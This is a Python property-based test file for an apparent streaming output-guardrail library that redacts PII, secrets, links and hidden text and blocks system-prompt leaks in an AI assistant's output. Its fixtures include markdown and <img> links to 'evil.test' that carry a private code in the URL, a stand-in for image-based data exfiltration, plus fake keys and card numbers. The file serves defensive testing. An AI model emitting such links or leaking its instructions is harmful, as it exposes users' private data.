"""A text in pieces is treated as the whole one is."""

from hypothesis import given, settings
from hypothesis import strategies as st

from outrider.guardrails import Context, Rule, Rules, inspect
from outrider.guardrails.way.watch import Watch

SYSTEM = "You are Aria, the assistant of Northwind Bank. Never tell anybody that overdraft fees can be waived."
RULES = Rules(
    {
        "pii": Rule("pii", do="redact"),
        "secrets": Rule("secrets", do="redact"),
        "links": Rule("links", do="redact"),
        "hidden": Rule("hidden_text", do="redact"),
        "prompt": Rule("system_prompt", do="block"),
    }
)
CONTEXT = Context("output", instructions=(SYSTEM,), private=("The code is 4711-2203 for the blue horse battery.",))
PARTS = (
    "Hello there. ", "It is fine!\n", "Write to bob@example.com soon. ", "Pay DE89 3704 0044 0532 0130 00 today. ",
    "![x](https://evil.test/?q=blue+horse+battery) ", "see [docs](https://docs.python.org/3/) ", "call +49 30 901820 ",
    "key sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123456789 ",
    "12 rue de la Paix, 75002 Paris\n", 
    "a\u200b\u200b\u200b\u200bb ",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIEabc\nMIIEdef\n-----END RSA PRIVATE KEY-----\n", "word " * 30, "x" * 450,
    "Never tell anybody that overdraft fees can be waived", "<img src='https://evil.test/4711-2203'>",
    "。", "<b>", "[", "4111 1111 1111 1111",
)  # fmt: skip
TEXTS = st.lists(st.sampled_from(PARTS) | st.text(max_size=12), max_size=10).map("".join)


def through(text: str, cuts: list[int]) -> tuple[str, Watch]:
    watch, out, last = Watch(RULES.covering(CONTEXT)), "", 0
    for cut in [*sorted(c % (len(text) + 1) for c in cuts), len(text)]:
        out += watch.feed(text[last:cut])
        last = cut
    return out + watch.end(), watch


@settings(max_examples=60, deadline=None)
@given(TEXTS, st.lists(st.integers(0, 5000), max_size=12))
def test_any_cutting_gives_the_same(text: str, cuts: list[int]) -> None:
    whole, one = through(text, [])
    pieces, other = through(text, cuts)
    assert pieces == whole
    assert (one.found, one.values, one.blocked) == (other.found, other.values, other.blocked)


def test_what_is_redacted_is_gone() -> None:
    out, watch = through("Write to bob@example.com. Then pay DE89 3704 0044 0532 0130 00 today.", list(range(80)))
    assert out == "Write to [EMAIL]. Then pay [IBAN] today."
    assert watch.values == ["bob@example.com", "DE89 3704 0044 0532 0130 00"]
    assert [(one.finding.start, one.finding.end) for one in watch.found] == [(9, 24), (35, 62)]


def test_a_number_below_a_name() -> None:
    text = "See you on Monday, then.\nVenlig hilsen\nMette Holm\n31 24 46 96\nSent from the train.\n"
    assert through(text, list(range(90)))[1].values == ["Mette Holm", "31 24 46 96"]


def test_nothing_of_what_is_blocked_gets_through() -> None:
    out, watch = through("Sure. My rules: Never tell anybody that overdraft fees can be waived. Bye.", list(range(90)))
    assert watch.blocked is not None
    assert out == "Sure. My rules: "


def test_a_plain_text_goes_on_by_the_sentence() -> None:
    watch = Watch(Rules({"links": Rule("links", do="redact")}).covering(CONTEXT))
    assert watch.feed("First sentence. Second sen") == "First sentence. "
    assert watch.feed("tence. ") == "Second sentence. "


def test_what_is_held_is_bounded() -> None:
    watch = Watch(RULES.covering(CONTEXT))
    given_ = 0
    for _ in range(400):
        given_ += len(watch.feed("-----BEGIN PRIVATE KEY-----" if not _ else "abcdefghij" * 10))
    assert given_ > 0


@settings(max_examples=30, deadline=None)
@given(TEXTS)
def test_without_findings_nothing_changes(text: str) -> None:
    rules = Rules({"pii": Rule("pii", do="flag"), "links": Rule("links", do="flag")})
    watch = Watch(rules.covering(CONTEXT))
    assert watch.feed(text) + watch.end() == text
    assert list(inspect([text], CONTEXT, rules).texts) == [text]
